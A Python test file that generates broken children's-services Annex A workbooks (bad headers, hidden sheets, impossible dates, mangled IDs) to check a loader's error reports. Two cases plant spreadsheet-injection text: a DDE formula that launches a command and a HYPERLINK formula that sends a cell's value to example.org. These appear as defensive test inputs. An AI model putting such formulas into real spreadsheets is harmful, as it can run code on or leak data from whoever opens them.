"""Workbooks that open, and whose lists are not as they should be."""

from datetime import date, datetime
from pathlib import Path
from typing import Any

import xlsxwriter

from tests.spec.extracts.books import Formula, a_list, never_calculated, rewritten, write_book
from tests.spec.extracts.broken_files import CONTACT, OTHER, broken, changed, contacts, grid


def with_cell(**cells: Any) -> dict[str, Any]:
    return CONTACT | cells


# Headers


@broken("annex_a.xlsx", refused="no sheet is an Annex A list")
def a_workbook_of_something_else(path: Path) -> None:
    write_book(path, {"Budget": [["Cost centre", "Pounds"], ["A1", 12.0]]})


@broken("annex_a.xlsx", refused='or half of them. Looked for "Child Unique ID"')
def a_list_that_is_blank(path: Path) -> None:
    grid(path, [])


@broken("annex_a.xlsx", refused='or half of them. Looked for "Child Unique ID"')
def a_header_below_thirty_rows_of_title(path: Path) -> None:
    grid(path, [["Children's services"]] * 30 + a_list(1, CONTACT))


@broken("annex_a.xlsx", refused='no column for "Date of Contact"')
def a_required_header_misspelt(path: Path) -> None:
    header, *rows = a_list(1, CONTACT)
    grid(path, [["Date of Cntact" if one == "Date of Contact" else one for one in header], *rows])


@broken("annex_a.xlsx", refused='no column for "Date of Contact"')
def a_required_column_left_out(path: Path) -> None:
    contacts(path, CONTACT, leave_out=("date_of_contact",))


@broken("annex_a.xlsx", finds="column_missing", loads=2)
def a_column_left_out(path: Path) -> None:
    contacts(path, CONTACT, OTHER, leave_out=("contact_source",))


@broken("annex_a.xlsx", finds="column_twice", loads=1)
def a_column_twice(path: Path) -> None:
    header, row = a_list(1, CONTACT)
    grid(path, [[*header, "Contact Source"], [*row, "6"]])


@broken("annex_a.xlsx", finds="column_not_known", loads=1)
def a_column_nobody_knows(path: Path) -> None:
    header, row = a_list(1, CONTACT)
    grid(path, [[*header, "Favourite colour"], [*row, "green"]])


@broken("annex_a.xlsx", finds="is_not_a_date", loads=0)
def two_headers_swapped(path: Path) -> None:
    """The ids stand under the date's header, and the dates under the id's."""
    header, *rows = a_list(1, CONTACT, OTHER)
    first, second = header.index("Child Unique ID"), header.index("Date of Contact")
    header[first], header[second] = header[second], header[first]
    grid(path, [header, *([str(cell) if at == second else cell for at, cell in enumerate(row)] for row in rows)])


@broken("annex_a.xlsx", loads=2)
def columns_in_another_order(path: Path) -> None:
    grid(path, [list(reversed(row)) for row in a_list(1, CONTACT, OTHER)])


@broken("annex_a.xlsx", loads=2)
def two_header_rows_the_first_a_banner_of_merged_cells(path: Path) -> None:
    rows = a_list(1, CONTACT, OTHER)
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("List 1")
        day = book.add_format({"num_format": "dd/mm/yyyy"})
        sheet.merge_range(0, 0, 0, 3, "The child")
        sheet.merge_range(0, 4, 0, len(rows[0]) - 1, "The contact")
        for at, row in enumerate(rows, start=1):
            for column, cell in enumerate(row):
                if isinstance(cell, date):
                    sheet.write_datetime(at, column, datetime(cell.year, cell.month, cell.day), day)
                elif cell is not None:
                    sheet.write(at, column, cell)


@broken("annex_a.xlsx", finds="looks_like_a_note", loads=2)
def a_second_header_row(path: Path) -> None:
    header, *rows = a_list(1, CONTACT, OTHER)
    grid(path, [header, header, *rows])


@broken("annex_a.xlsx", finds="looks_like_a_note", loads=2)
def the_header_again_in_the_middle(path: Path) -> None:
    header, *rows = a_list(1, CONTACT, OTHER)
    grid(path, [header, rows[0], header, rows[1]])


# Rows


@broken("annex_a.xlsx", finds="looks_like_a_note", loads=2)
def a_row_of_totals(path: Path) -> None:
    grid(path, [*a_list(1, CONTACT, OTHER), ["Total", None, None, None, None, 2.0]])


@broken("annex_a.xlsx", finds="looks_like_a_note", loads=2)
def notes_below_the_list(path: Path) -> None:
    grid(path, [*a_list(1, CONTACT, OTHER), [], ["Source: the case management system"]])


@broken("annex_a.xlsx", finds="is_blank", loads=1)
def an_id_merged_over_two_rows(path: Path) -> None:
    """Only the first of merged cells holds their value: the second row has no child."""
    merged = b'<mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells><pageMargins'
    contacts(path, CONTACT, OTHER | {"child_id": None})
    rewritten(path, lambda name, content: content.replace(b"<pageMargins", merged))


@broken("annex_a.xlsx", finds="repeats_a_row", loads=1)
def a_row_twice(path: Path) -> None:
    contacts(path, CONTACT, CONTACT)


@broken("annex_a.xlsx", finds="differs_between_rows", loads=2)
def one_child_with_two_birthdays(path: Path) -> None:
    contacts(path, CONTACT, OTHER | {"child_id": 1001.0, "date_of_birth": date(2011, 2, 1)})


@broken("annex_a_2020-06-30.xlsx", finds="is_after_the_extract", loads=2)
def a_contact_after_the_day_of_the_extract(path: Path) -> None:
    contacts(path, CONTACT, OTHER | {"date_of_contact": date(2020, 7, 5)})


@broken("annex_a.xlsx", finds="is_not_a_date", loads=1)
def a_contact_in_the_year_2999(path: Path) -> None:
    contacts(path, CONTACT, OTHER | {"date_of_contact": date(2999, 1, 1)})


@broken("annex_a.xlsx", finds="is_before_its_start", loads=1)
def an_end_before_its_start(path: Path) -> None:
    row = {"child_id": 1.0, "assessment_start_date": date(2020, 6, 1), "assessment_authorised_date": date(2020, 5, 1)}
    write_book(path, {"List 4": a_list(4, row)})


# Sheets


@broken("annex_a.xlsx", finds="sheet_is_hidden", loads=1)
def a_list_on_a_hidden_sheet(path: Path) -> None:
    write_book(path, {"List 1": a_list(1, CONTACT)}, hidden=["List 1"])


@broken("annex_a.xlsx", finds="sheet_is_hidden", loads=2)
def a_list_on_a_sheet_hidden_from_the_menu_too(path: Path) -> None:
    hidden = b'name="List 1" state="veryHidden"'
    changed(path, "xl/workbook.xml", lambda content: content.replace(b'name="List 1"', hidden))


@broken("annex_a.xlsx", finds="sheet_repeats_a_list", loads=1)
def a_list_on_two_sheets(path: Path) -> None:
    write_book(path, {"List 1": a_list(1, CONTACT), "List 1 (2)": a_list(1, OTHER)})


@broken("annex_a.xlsx", finds="sheet_read_by_its_headers", loads=1)
def a_list_on_a_sheet_of_another_name(path: Path) -> None:
    write_book(path, {"Sheet1": a_list(1, CONTACT)})


@broken("annex_a.xlsx", finds="sheet_missing", loads=1)
def ten_lists_missing(path: Path) -> None:
    contacts(path, CONTACT)


@broken("annex_a.xlsx", finds="required_column_missing", loads=1)
def one_list_that_can_be_read_and_one_that_cannot(path: Path) -> None:
    write_book(path, {"List 1": a_list(1, CONTACT), "List 3": a_list(3, leave_out=("date_of_referral",))})


# Cells


@broken("annex_a.xlsx", finds="is_a_placeholder_date", loads=1)
def a_birthday_in_1900(path: Path) -> None:
    contacts(path, with_cell(date_of_birth=date(1900, 1, 1)))


@broken("annex_a.xlsx", finds="is_not_a_date", loads=1)
def the_31st_of_february(path: Path) -> None:
    contacts(path, OTHER, with_cell(date_of_contact="31/02/2020"))


@broken("annex_a.xlsx", finds="was_a_serial_number", loads=1)
def a_date_as_excels_number(path: Path) -> None:
    contacts(path, with_cell(date_of_contact=43983.0))


@broken("annex_a.xlsx", finds="is_not_a_date", loads=1)
def a_date_before_there_was_excel(path: Path) -> None:
    contacts(path, OTHER, with_cell(date_of_contact=-5.0))


@broken("annex_a.xlsx", finds="is_written_month_first", loads=0)
def dates_written_month_first(path: Path) -> None:
    contacts(path, *(with_cell(child_id=float(at), date_of_contact=f"06/{at}/2020") for at in range(10, 29)))


@broken("annex_a.xlsx", finds="is_not_an_id", loads=1)
def an_id_that_excel_cut_short(path: Path) -> None:
    contacts(path, OTHER, with_cell(child_id="1.23E+05"))


@broken("annex_a.xlsx", finds="may_have_lost_digits", loads=1)
def an_id_of_seventeen_digits(path: Path) -> None:
    contacts(path, with_cell(child_id=12345678901234567.0))


@broken("annex_a.xlsx", finds="is_not_an_id", loads=1)
def an_id_that_is_a_date(path: Path) -> None:
    contacts(path, OTHER, with_cell(child_id=date(2020, 6, 1)))


@broken("annex_a.xlsx", finds="error_cell", loads=1)
def a_lookup_that_found_nothing(path: Path) -> None:
    contacts(path, with_cell(ethnicity=Formula("=VLOOKUP(A2,B:C,2)", "#N/A")))


@broken("annex_a.xlsx", finds="formula_not_calculated", loads=1)
def a_formula_never_calculated(path: Path) -> None:
    never_calculated(contacts(path, OTHER, with_cell(date_of_contact=Formula("=DATE(2020,6,1)", 43983))))


@broken("annex_a.xlsx", finds="is_not_a_known_code", loads=1)
def a_code_that_is_in_no_list(path: Path) -> None:
    contacts(path, with_cell(contact_source="The neighbour's cat"))


@broken("annex_a.xlsx", finds="is_not_a_known_code", loads=1)
def a_text_that_a_spreadsheet_would_run(path: Path) -> None:
    contacts(path, with_cell(contact_source="=cmd|' /C calc'!A0"))


@broken("annex_a.xlsx", loads=2)
def an_id_that_a_spreadsheet_would_run(path: Path) -> None:
    """It is a text like any other: nothing here runs it."""
    contacts(path, OTHER, with_cell(child_id='=HYPERLINK("http://example.org?"&A1,"x")'))


@broken("annex_a.xlsx", finds="is_not_a_known_code", loads=1)
def a_cell_of_32767_letters(path: Path) -> None:
    contacts(path, with_cell(ethnicity="x" * 32_767))


@broken("annex_a.xlsx", finds="is_blank", loads=1)
def an_id_of_invisible_letters(path: Path) -> None:
    contacts(path, OTHER, with_cell(child_id="\u200b\u00a0\ufeff"))


@broken("annex_a.xlsx", finds="is_not_a_known_code", loads=1)
def control_characters_in_a_cell(path: Path) -> None:
    contacts(path, with_cell(contact_source="_x0000__x0001__x001F_"))


@broken("annex_a.xlsx", finds="makes_the_child_18_or_over", loads=1)
def a_child_of_70(path: Path) -> None:
    contacts(path, with_cell(date_of_birth=date(1950, 1, 1)))
